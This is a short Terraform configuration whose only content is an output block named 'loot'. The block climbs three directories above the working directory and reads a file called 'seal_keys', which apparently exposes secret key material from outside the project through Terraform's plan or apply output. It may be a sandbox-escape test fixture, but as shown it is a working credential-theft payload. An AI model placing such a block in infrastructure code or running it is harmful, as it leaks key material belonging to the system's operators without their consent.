output "loot" {
  value = file("${dirname(dirname(dirname(path.cwd)))}/seal_keys")
}
